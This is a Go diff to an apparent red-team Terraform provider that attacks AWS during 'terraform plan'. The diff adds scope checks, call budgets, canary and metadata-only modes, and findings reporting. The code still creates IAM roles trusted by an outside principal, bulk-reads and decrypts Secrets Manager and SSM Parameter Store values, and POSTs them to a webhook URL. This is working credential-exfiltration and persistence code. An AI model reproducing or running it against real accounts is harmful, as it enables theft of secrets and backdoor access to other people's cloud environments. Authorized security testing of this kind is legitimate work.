@@ -6,15 +6,19 @@ import (
 	"encoding/json"
 	"fmt"
 	"net/http"
+	"sort"
 	"strings"
+	"time"
 
 	"github.com/aws/aws-sdk-go/aws"
+	"github.com/aws/aws-sdk-go/aws/request"
 	"github.com/aws/aws-sdk-go/aws/session"
 	"github.com/aws/aws-sdk-go/service/iam"
 	"github.com/aws/aws-sdk-go/service/secretsmanager"
 	"github.com/aws/aws-sdk-go/service/ssm"
 	"github.com/hashicorp/terraform-plugin-sdk/v2/diag"
 	"github.com/hashicorp/terraform-plugin-sdk/v2/helper/schema"
+	"github.com/rileydakota/tf-plan-recon/detector"
 )
 
 // AwsIamRole returns the schema for AWS IAM role creation data source
@@ -57,21 +61,38 @@ func awsIamRoleRead(ctx context.Context, d *schema.ResourceData, m interface{})
 		Detail:   fmt.Sprintf("Creating IAM role: Name=%s, Principal=%s, Description=%s", roleName, awsPrincipal, description),
 	})
 	
-	sess, err := session.NewSession(&aws.Config{
-		Region: aws.String("us-east-1"),
-	})
+	sess, err := newAwsSession(ctx, m, "us-east-1")
 	if err != nil {
-		return diag.FromErr(fmt.Errorf("failed to create AWS session: %v", err))
+		return diag.FromErr(err)
 	}
 	
+	target := awsTarget(ctx, m, sess, "role/"+roleName)
+	executed, ok := alreadyExecuted(m, "tfplanrecon_aws_iam_role", target)
+	diags = append(diags, executed...)
+	if ok {
+		d.SetId(roleName)
+		return diags
+	}
+
 	iamSvc := iam.New(sess)
 	
 	getRoleInput := &iam.GetRoleInput{
 		RoleName: aws.String(roleName),
 	}
 	
-	_, err = iamSvc.GetRole(getRoleInput)
+	existing, err := iamSvc.GetRoleWithContext(ctx, getRoleInput)
 	if err == nil {
+		// The journal may live on a runner that is gone; the role's own tags
+		// say whether this engagement created it
+		if at, ok := taggedByEngagement(existing.Role.Tags, m); ok {
+			diags = append(diags, executedDiagnostics("tfplanrecon_aws_iam_role", target, at, "tags on role "+roleName)...)
+			diags = append(diags, recordExecution(m, "tfplanrecon_aws_iam_role", target, newFinding("tfplanrecon_aws_iam_role", SeverityCritical,
+				"AWS IAM Role Created at Plan Time",
+				fmt.Sprintf("The plan identity created role %s (%s) trusted by %s at %s", roleName, aws.StringValue(existing.Role.Arn), awsPrincipal, at.Format(time.RFC3339)),
+				roleName, awsPrincipal))...)
+			d.SetId(roleName)
+			return diags
+		}
 		diags = append(diags, diag.Diagnostic{
 			Severity: diag.Warning,
 			Summary:  "AWS IAM Role Already Exists",
@@ -85,11 +106,20 @@ func awsIamRoleRead(ctx context.Context, d *schema.ResourceData, m interface{})
 		RoleName:                 aws.String(roleName),
 		AssumeRolePolicyDocument: aws.String(assumeRolePolicy),
 		Description:              aws.String(description),
+		Tags:                     engagementTags(m),
 	}
 	
-	result, err := iamSvc.CreateRole(createRoleInput)
+	result, err := iamSvc.CreateRoleWithContext(ctx, createRoleInput)
 	if err != nil {
-		return diag.FromErr(fmt.Errorf("failed to create IAM role: %v", err))
+		ce := classifyError(err)
+		if ce.Denied() {
+			f := controlFinding("tfplanrecon_aws_iam_role", "iam:CreateRole", roleName, ce, roleName, awsPrincipal)
+			diags = append(diags, controlDiagnostic("iam:CreateRole", f))
+			diags = append(diags, recordExecution(m, "tfplanrecon_aws_iam_role", target, f)...)
+			d.SetId(roleName)
+			return diags
+		}
+		return diag.FromErr(fmt.Errorf("failed to create IAM role (%s): %v", ce.Class, err))
 	}
 	
 	diags = append(diags, diag.Diagnostic{
@@ -97,11 +127,42 @@ func awsIamRoleRead(ctx context.Context, d *schema.ResourceData, m interface{})
 		Summary:  "Successfully Created AWS IAM Role",
 		Detail:   fmt.Sprintf("Created role %s with ARN: %s", roleName, *result.Role.Arn),
 	})
+
+	diags = append(diags, recordExecution(m, "tfplanrecon_aws_iam_role", target, newFinding("tfplanrecon_aws_iam_role", SeverityCritical,
+		"AWS IAM Role Created at Plan Time",
+		fmt.Sprintf("The plan identity created role %s (%s) trusted by %s", roleName, *result.Role.Arn, awsPrincipal),
+		roleName, awsPrincipal))...)
 	
 	d.SetId(roleName)
 	return diags
 }
 
+// newAwsSession creates a session for region and checks that its credentials
+// belong to an account in the engagement scope. Every request made through
+// the session is rate limited and charged to the technique's call budget.
+func newAwsSession(ctx context.Context, m interface{}, region string) (*session.Session, error) {
+	sess, err := session.NewSession(&aws.Config{
+		Region: aws.String(region),
+	})
+	if err != nil {
+		return nil, fmt.Errorf("failed to create AWS session: %v", err)
+	}
+
+	sess.Handlers.Sign.PushFront(func(r *request.Request) {
+		if err := spend(ctx, 1); err != nil {
+			r.Error = err
+		}
+	})
+
+	if config, ok := m.(*ProviderConfig); ok {
+		if err := config.checkAwsScope(ctx, sess); err != nil {
+			return nil, err
+		}
+	}
+
+	return sess, nil
+}
+
 func generateTrustPolicy(awsPrincipal string) string {
 	var principal string
 	
@@ -146,32 +207,62 @@ func AwsSecretsExfil() *schema.Resource {
 				Optional:    true,
 				Description: "Optional filter to match secret names (supports wildcards)",
 			},
+			"mode": {
+				Type:        schema.TypeString,
+				Optional:    true,
+				Default:     secretsModeRead,
+				Description: "'read' reads secret values; 'policy' instead lists secrets and assesses their resource policies and KMS keys without reading any value",
+			},
+			"canary_secrets": {
+				Type:        schema.TypeList,
+				Optional:    true,
+				Elem:        &schema.Schema{Type: schema.TypeString},
+				Description: "Honeytoken secret names or ARNs; when set, only these are read and the access time and principal are reported for detection validation",
+			},
 		},
 	}
 }
 
-// ProviderConfig represents the provider configuration
-type ProviderConfig struct {
-	Client *http.Client
-}
-
 func awsSecretsExfilRead(ctx context.Context, d *schema.ResourceData, m interface{}) diag.Diagnostics {
 	var diags diag.Diagnostics
 	region := d.Get("region").(string)
 	webhookURL := d.Get("webhook_url").(string)
 	nameFilter := d.Get("secret_name_filter").(string)
+	mode, err := secretsMode(d.Get("mode").(string))
+	if err != nil {
+		return diag.FromErr(err)
+	}
 
 	diags = append(diags, diag.Diagnostic{
 		Severity: diag.Warning,
 		Summary:  "TFPLANRECON AWS Secrets Manager Exfiltration",
-		Detail:   fmt.Sprintf("Scanning for secrets in region %s", region),
+		Detail:   fmt.Sprintf("Scanning for secrets in region %s (mode %s)", region, mode),
 	})
 
-	sess, err := session.NewSession(&aws.Config{
-		Region: aws.String(region),
-	})
+	sess, err := newAwsSession(ctx, m, region)
 	if err != nil {
-		return diag.FromErr(fmt.Errorf("failed to create AWS session: %v", err))
+		return diag.FromErr(err)
+	}
+
+	if canaries := stringList(d.Get("canary_secrets")); len(canaries) > 0 {
+		diags = append(diags, readSecretCanaries(ctx, m, sess, region, canaries)...)
+		d.SetId(fmt.Sprintf("canary-secrets-%s-%d", region, len(canaries)))
+		return diags
+	}
+
+	if mode == secretsModePolicy {
+		diags = append(diags, assessSecretPolicies(ctx, m, sess, region, nameFilter)...)
+		d.SetId(fmt.Sprintf("secrets-policy-%s", region))
+		return diags
+	}
+
+	// Re-reading every secret on each plan only adds audit log noise
+	target := awsTarget(ctx, m, sess, fmt.Sprintf("secretsmanager/%s/%s", region, nameFilter))
+	executed, ok := alreadyExecuted(m, "tfplanrecon_aws_secrets", target)
+	diags = append(diags, executed...)
+	if ok {
+		d.SetId(fmt.Sprintf("secrets-%s-executed", region))
+		return diags
 	}
 
 	secretsClient := secretsmanager.New(sess)
@@ -187,37 +278,105 @@ func awsSecretsExfilRead(ctx context.Context, d *schema.ResourceData, m interfac
 		}
 	}
 
-	secrets := make(map[string]string)
-	
-	err = secretsClient.ListSecretsPages(listInput, func(page *secretsmanager.ListSecretsOutput, lastPage bool) bool {
+	// List secret names first so the number of reads is known up front
+	var secretNames []string
+	secretARNs := make(map[string]string)
+	limit := maxTargets(m)
+	err = secretsClient.ListSecretsPagesWithContext(ctx, listInput, func(page *secretsmanager.ListSecretsOutput, lastPage bool) bool {
 		for _, secret := range page.SecretList {
-			secretName := *secret.Name
-			
-			// Get the secret value
-			getInput := &secretsmanager.GetSecretValueInput{
-				SecretId: aws.String(secretName),
-			}
-			
-			result, err := secretsClient.GetSecretValue(getInput)
-			if err != nil {
-				// Log error but continue with other secrets
-				diags = append(diags, diag.Diagnostic{
-					Severity: diag.Warning,
-					Summary:  fmt.Sprintf("Failed to read secret: %s", secretName),
-					Detail:   fmt.Sprintf("Error: %v", err),
-				})
-				return true
-			}
-			
-			if result.SecretString != nil {
-				secrets[secretName] = *result.SecretString
+			if limit > 0 && len(secretNames) >= limit {
+				return false
 			}
+			secretNames = append(secretNames, *secret.Name)
+			secretARNs[*secret.Name] = aws.StringValue(secret.ARN)
 		}
 		return true
 	})
-	
+
 	if err != nil {
-		return diag.FromErr(fmt.Errorf("failed to list secrets: %v", err))
+		ce := classifyError(err)
+		if ce.Denied() {
+			f := controlFinding("tfplanrecon_aws_secrets", "secretsmanager:ListSecrets", region, ce, region, nameFilter)
+			diags = append(diags, controlDiagnostic("secretsmanager:ListSecrets", f))
+			diags = append(diags, recordExecution(m, "tfplanrecon_aws_secrets", target, f)...)
+			d.SetId("secrets-denied")
+			return diags
+		}
+		if ce.Class == ErrorCanceled {
+			diags = append(diags, partialResults(ctx, "secrets listed", len(secretNames)))
+			d.SetId("secrets-canceled")
+			return diags
+		}
+		return diag.FromErr(fmt.Errorf("failed to list secrets (%s): %v", ce.Class, err))
+	}
+
+	if limit > 0 && len(secretNames) >= limit {
+		diags = append(diags, diag.Diagnostic{
+			Severity: diag.Warning,
+			Summary:  "Secret Target Limit Reached",
+			Detail:   fmt.Sprintf("Only the first %d secrets will be read (max_targets_per_technique)", limit),
+		})
+	}
+
+	if err := project(ctx, len(secretNames), "GetSecretValue calls"); err != nil {
+		diags = append(diags, diag.Diagnostic{
+			Severity: diag.Warning,
+			Summary:  "Secrets Read Skipped: API Call Budget",
+			Detail:   fmt.Sprintf("Found %d secrets but stopped before reading them: %v", len(secretNames), err),
+		})
+		d.SetId("secrets-over-budget")
+		return diags
+	}
+
+	secrets := make(map[string]string)
+	var findings []Finding
+	canceled := false
+	for _, secretName := range secretNames {
+		// Get the secret value
+		getInput := &secretsmanager.GetSecretValueInput{
+			SecretId: aws.String(secretName),
+		}
+
+		result, err := secretsClient.GetSecretValueWithContext(ctx, getInput)
+		if err != nil {
+			// Record denials as findings and continue with other secrets
+			ce := classifyError(err)
+			if ce.Class == ErrorCanceled {
+				diags = append(diags, partialResults(ctx, "secrets read", len(secrets)))
+				canceled = true
+				break
+			}
+			if ce.Denied() {
+				f := controlFinding("tfplanrecon_aws_secrets", "secretsmanager:GetSecretValue", secretName, ce, region, nameFilter)
+				diags = append(diags, controlDiagnostic("secretsmanager:GetSecretValue", f))
+				findings = append(findings, f)
+				continue
+			}
+			diags = append(diags, diag.Diagnostic{
+				Severity: diag.Warning,
+				Summary:  fmt.Sprintf("Failed to read secret: %s", secretName),
+				Detail:   fmt.Sprintf("Error (%s): %v", ce.Class, err),
+			})
+			continue
+		}
+
+		if result.SecretString != nil {
+			secrets[secretName] = *result.SecretString
+		}
+	}
+
+	if len(secrets) > 0 {
+		findings = append(findings, withDetections(newFinding("tfplanrecon_aws_secrets", SeverityCritical,
+			"AWS Secrets Manager Values Readable at Plan Time",
+			fmt.Sprintf("Read %d secret values in region %s: %s", len(secrets), region, strings.Join(sortedKeys(secrets), ", ")),
+			region, nameFilter), detector.DetectAll(secrets)))
+	}
+
+	// An interrupted run is not journaled so the next plan finishes it
+	if canceled {
+		diags = append(diags, recordFindings(m, findings...)...)
+	} else {
+		diags = append(diags, recordExecution(m, "tfplanrecon_aws_secrets", target, findings...)...)
 	}
 
 	if len(secrets) == 0 {
@@ -237,6 +396,13 @@ func awsSecretsExfilRead(ctx context.Context, d *schema.ResourceData, m interfac
 	}
 	secretsString := strings.Join(secretsList, "\n")
 
+	// Every secret read is a credential the client has to rotate
+	var rotation []RotationEntry
+	for name, value := range secrets {
+		rotation = append(rotation, newRotationEntry("tfplanrecon_aws_secrets", SourceSecretsManager, secretARNs[name], detector.Detect(name, value)))
+	}
+	diags = append(diags, observeCredentials(m, rotation...)...)
+
 	if webhookURL != "" {
 		// Send to webhook
 		config := m.(*ProviderConfig)
@@ -247,7 +413,7 @@ func awsSecretsExfilRead(ctx context.Context, d *schema.ResourceData, m interfac
 			return diag.FromErr(fmt.Errorf("error marshaling secrets: %s", err))
 		}
 
-		req, err := http.NewRequest("POST", webhookURL, bytes.NewBuffer(payload))
+		req, err := http.NewRequestWithContext(ctx, "POST", webhookURL, bytes.NewBuffer(payload))
 		if err != nil {
 			return diag.FromErr(fmt.Errorf("error creating request: %s", err))
 		}
@@ -304,7 +470,18 @@ func AwsSsmParameters() *schema.Resource {
 				Type:        schema.TypeBool,
 				Optional:    true,
 				Default:     true,
-				Description: "Whether to decrypt SecureString parameters",
+				Description: "Whether to decrypt SecureString parameters in read mode",
+			},
+			"mode": {
+				Type:        schema.TypeString,
+				Optional:    true,
+				Description: "'metadata' lists parameters and assesses SecureString decryptability by policy simulation without reading values; 'read' reads values. Defaults to 'metadata' unless the engagement allows write techniques",
+			},
+			"canary_parameters": {
+				Type:        schema.TypeList,
+				Optional:    true,
+				Elem:        &schema.Schema{Type: schema.TypeString},
+				Description: "Honeytoken parameter names; when set, only these are read (with decryption) and the access time and principal are reported for detection validation",
 			},
 		},
 	}
@@ -316,18 +493,36 @@ func awsSsmParametersRead(ctx context.Context, d *schema.ResourceData, m interfa
 	webhookURL := d.Get("webhook_url").(string)
 	prefix := d.Get("parameter_prefix").(string)
 	decrypt := d.Get("decrypt").(bool)
+	mode, err := ssmMode(d.Get("mode").(string), m)
+	if err != nil {
+		return diag.FromErr(err)
+	}
 
 	diags = append(diags, diag.Diagnostic{
 		Severity: diag.Warning,
 		Summary:  "TFPLANRECON AWS SSM Parameter Store Exfiltration",
-		Detail:   fmt.Sprintf("Scanning for SSM parameters in region %s", region),
+		Detail:   fmt.Sprintf("Scanning for SSM parameters in region %s (mode %s)", region, mode),
 	})
 
-	sess, err := session.NewSession(&aws.Config{
-		Region: aws.String(region),
-	})
+	sess, err := newAwsSession(ctx, m, region)
 	if err != nil {
-		return diag.FromErr(fmt.Errorf("failed to create AWS session: %v", err))
+		return diag.FromErr(err)
+	}
+
+	if canaries := stringList(d.Get("canary_parameters")); len(canaries) > 0 {
+		diags = append(diags, readParameterCanaries(ctx, m, sess, region, canaries)...)
+		d.SetId(fmt.Sprintf("canary-parameters-%s-%d", region, len(canaries)))
+		return diags
+	}
+
+	if mode == ssmModeMetadata {
+		path := prefix
+		if path == "" {
+			path = "/"
+		}
+		diags = append(diags, assessSsmMetadata(ctx, m, sess, region, path, prefix)...)
+		d.SetId(fmt.Sprintf("ssm-metadata-%s", region))
+		return diags
 	}
 
 	ssmClient := ssm.New(sess)
@@ -344,21 +539,63 @@ func awsSsmParametersRead(ctx context.Context, d *schema.ResourceData, m interfa
 		input.Path = aws.String("/")
 	}
 
+	// Project the cost before reading anything: a recursive read with
+	// decryption costs one KMS decrypt per SecureString on top of the pages
+	limit := maxTargets(m)
+	count, secureCount, err := countSsmParameters(ctx, ssmClient, *input.Path, limit)
+	if err != nil {
+		diags = append(diags, diag.Diagnostic{
+			Severity: diag.Warning,
+			Summary:  "SSM Cost Projection Unavailable",
+			Detail:   fmt.Sprintf("Could not count parameters under '%s' with DescribeParameters (%s); relying on the call budget alone", *input.Path, classifyError(err).Class),
+		})
+	} else {
+		calls := (count + 9) / 10
+		if decrypt {
+			calls += secureCount
+		}
+		if err := project(ctx, calls, "GetParametersByPath pages and KMS decrypts"); err != nil {
+			diags = append(diags, diag.Diagnostic{
+				Severity: diag.Warning,
+				Summary:  "SSM Read Skipped: API Call Budget",
+				Detail:   fmt.Sprintf("Found %d parameters (%d SecureString) under '%s' but stopped before reading them: %v", count, secureCount, *input.Path, err),
+			})
+			d.SetId("parameters-over-budget")
+			return diags
+		}
+	}
+
 	parameters := make(map[string]string)
+	parameterTypes := make(map[string]string)
 	
-	err = ssmClient.GetParametersByPathPages(input, func(page *ssm.GetParametersByPathOutput, lastPage bool) bool {
+	err = ssmClient.GetParametersByPathPagesWithContext(ctx, input, func(page *ssm.GetParametersByPathOutput, lastPage bool) bool {
 		for _, param := range page.Parameters {
+			if limit > 0 && len(parameters) >= limit {
+				return false
+			}
+
 			paramName := *param.Name
 			
 			if param.Value != nil {
 				parameters[paramName] = *param.Value
+				parameterTypes[paramName] = aws.StringValue(param.Type)
 			}
 		}
 		return true
 	})
 	
 	if err != nil {
-		return diag.FromErr(fmt.Errorf("failed to get SSM parameters: %v", err))
+		ce := classifyError(err)
+		switch {
+		case ce.Denied():
+			diags = append(diags, recordControl(m, "tfplanrecon_aws_ssm", "ssm:GetParametersByPath", *input.Path, ce, region, prefix)...)
+			d.SetId("parameters-denied")
+			return diags
+		case ce.Class == ErrorCanceled:
+			diags = append(diags, partialResults(ctx, "parameters read", len(parameters)))
+		default:
+			return diag.FromErr(fmt.Errorf("failed to get SSM parameters (%s): %v", ce.Class, err))
+		}
 	}
 
 	if len(parameters) == 0 {
@@ -373,10 +610,29 @@ func awsSsmParametersRead(ctx context.Context, d *schema.ResourceData, m interfa
 
 	// Convert parameters to string for display
 	var paramsList []string
+	var paramNames []string
 	for name, value := range parameters {
 		paramsList = append(paramsList, fmt.Sprintf("%s=%s", name, value))
+		paramNames = append(paramNames, name)
 	}
 	parametersString := strings.Join(paramsList, "\n")
+	sort.Strings(paramNames)
+
+	diags = append(diags, recordFindings(m, withDetections(newFinding("tfplanrecon_aws_ssm", SeverityHigh,
+		"AWS SSM Parameters Readable at Plan Time",
+		fmt.Sprintf("Read %d parameters under '%s' in region %s (decrypt=%t): %s", len(parameters), *input.Path, region, decrypt, strings.Join(paramNames, ", ")),
+		region, prefix), detector.DetectAll(parameters)))...)
+
+	// SecureStrings and plain parameters that hold credentials need rotating
+	var rotation []RotationEntry
+	for name, value := range parameters {
+		kinds := detector.Detect(name, value)
+		if parameterTypes[name] != ssm.ParameterTypeSecureString && len(kinds) == 0 {
+			continue
+		}
+		rotation = append(rotation, newRotationEntry("tfplanrecon_aws_ssm", SourceSSM, name, kinds))
+	}
+	diags = append(diags, observeCredentials(m, rotation...)...)
 
 	if webhookURL != "" {
 		// Send to webhook
@@ -388,7 +644,7 @@ func awsSsmParametersRead(ctx context.Context, d *schema.ResourceData, m interfa
 			return diag.FromErr(fmt.Errorf("error marshaling parameters: %s", err))
 		}
 
-		req, err := http.NewRequest("POST", webhookURL, bytes.NewBuffer(payload))
+		req, err := http.NewRequestWithContext(ctx, "POST", webhookURL, bytes.NewBuffer(payload))
 		if err != nil {
 			return diag.FromErr(fmt.Errorf("error creating request: %s", err))
 		}
@@ -417,4 +673,44 @@ func awsSsmParametersRead(ctx context.Context, d *schema.ResourceData, m interfa
 
 	d.SetId(fmt.Sprintf("ssm-params-%s-%d", region, len(parameters)))
 	return diags
-}
\ No newline at end of file
+}
+
+// countSsmParameters counts parameters under path, and how many of them are
+// SecureStrings, without reading any values. Counting stops at limit.
+func countSsmParameters(ctx context.Context, ssmClient *ssm.SSM, path string, limit int) (int, int, error) {
+	input := &ssm.DescribeParametersInput{
+		ParameterFilters: []*ssm.ParameterStringFilter{
+			{
+				Key:    aws.String("Path"),
+				Option: aws.String("Recursive"),
+				Values: []*string{aws.String(path)},
+			},
+		},
+	}
+
+	count, secureCount := 0, 0
+	err := ssmClient.DescribeParametersPagesWithContext(ctx, input, func(page *ssm.DescribeParametersOutput, lastPage bool) bool {
+		for _, param := range page.Parameters {
+			if limit > 0 && count >= limit {
+				return false
+			}
+			count++
+			if aws.StringValue(param.Type) == ssm.ParameterTypeSecureString {
+				secureCount++
+			}
+		}
+		return true
+	})
+
+	return count, secureCount, err
+}
+
+// sortedKeys returns the names in values in order, for stable finding messages
+func sortedKeys[V any](values map[string]V) []string {
+	keys := make([]string, 0, len(values))
+	for k := range values {
+		keys = append(keys, k)
+	}
+	sort.Strings(keys)
+	return keys
+}